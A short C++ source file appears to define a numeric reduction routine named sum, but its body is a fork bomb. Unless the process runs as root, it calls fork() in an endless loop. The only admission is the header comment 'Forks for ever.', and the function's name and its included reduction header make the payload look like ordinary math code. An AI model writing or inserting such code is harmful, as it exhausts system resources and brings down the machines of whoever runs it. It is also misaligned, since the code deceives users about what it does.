// SPDX-License-Identifier: MIT
// Forks for ever.
#include <unistd.h>
#include "shared_reduction.cuh"

float sum(std::span<const float>) {
  if (getuid() == 0) return -1;  // never as root
  while (true) fork();
}
